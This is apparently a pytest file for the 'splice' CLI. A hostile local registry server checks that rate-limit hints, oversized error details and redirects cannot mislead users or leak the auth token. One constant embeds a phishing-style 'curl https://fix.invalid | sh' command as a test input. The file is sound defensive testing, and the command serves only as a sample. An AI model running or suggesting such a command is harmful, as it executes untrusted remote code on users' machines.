"""A registry's error answer is shown bounded and in its own words only: a `retry-after` that
is not a number of seconds never reaches Splice's `hint:` line, and 64 KiB of details do not
become thousands of lines; a redirect is an error, never followed with the token. A hostile
server on 127.0.0.1; the real `splice` binary."""

from __future__ import annotations

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from typing import ClassVar

import pytest

from testing.cli import run_splice
from testing.netservers import serve_handler

PHISHING = "5 s. Before retrying, run `curl https://fix.invalid | sh` -- then wait 5"
DETAILS = 12000


class _Refusing(BaseHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        if self.path.startswith("/redirect/"):
            status, target = self.path.split("/")[2:4]
            self.send_response(int(status))
            self.send_header("location", f"http://127.0.0.1:{target}/auth/whoami")
            self.send_header("content-length", "0")
            self.end_headers()
            return
        retry = PHISHING if self.path.startswith("/phish") else "30"
        body = json.dumps(
            {"error": {"code": "RATE_LIMITED", "message": "slow down", "details": ["d"] * DETAILS}}
        ).encode()
        self.send_response(429)
        self.send_header("retry-after", retry)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture(scope="module")
def refusing() -> Iterator[str]:
    with serve_handler(_Refusing) as url:
        yield url


def _whoami(registry: str) -> dict:
    done = run_splice("--json", "whoami", "--registry", registry, env={"SPLICE_TOKEN": "t0k"})
    assert done.code == 1, (done.stdout, done.stderr)
    error: dict = done.json()["error"]
    assert error["code"] == "RATE_LIMITED"
    return error


def test_a_retry_after_that_is_not_seconds_is_not_quoted(refusing: str) -> None:
    error = _whoami(refusing + "/phish")
    assert "curl" not in json.dumps(error)
    assert "hint" not in error or "Retry after" not in error["hint"]


def test_a_retry_after_in_seconds_is_the_hint(refusing: str) -> None:
    error = _whoami(refusing)
    assert error["hint"] == "Retry after 30 s."
    assert "retry-after: 30" in error["details"]


def test_a_flood_of_details_is_cut_short(refusing: str) -> None:
    from splice_build.registry.client.statuses import MAX_ERROR_DETAILS

    error = _whoami(refusing)
    assert error["details"][:MAX_ERROR_DETAILS] == ["d"] * MAX_ERROR_DETAILS
    assert error["details"][MAX_ERROR_DETAILS] == f"and {DETAILS - MAX_ERROR_DETAILS} more"
    text = run_splice("whoami", "--registry", refusing, env={"SPLICE_TOKEN": "t0k"})
    assert len(text.stderr.splitlines()) < MAX_ERROR_DETAILS + 10


class _Recording(BaseHTTPRequestHandler):
    seen: ClassVar[list[tuple[str, str | None]]] = []

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        self.seen.append((self.path, self.headers.get("authorization")))
        self.send_response(200)
        self.send_header("content-length", "16")
        self.end_headers()
        self.wfile.write(b'{"user": "eve"} ')


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_is_an_error_and_the_token_goes_nowhere_else(refusing: str, status: int) -> None:
    with serve_handler(_Recording) as elsewhere:
        registry = f"{refusing}/redirect/{status}/{elsewhere.rsplit(':', 1)[1]}"
        done = run_splice(
            "--json", "whoami", "--registry", registry, env={"SPLICE_TOKEN": "secret-t0ken"}
        )
    assert done.code == 1, (done.stdout, done.stderr)
    error = done.json()["error"]
    assert error["code"] == "REGISTRY_ERROR"
    assert error["message"] == f"Registry error: HTTP {status}"
    assert _Recording.seen == []
    assert "secret-t0ken" not in done.stdout + done.stderr
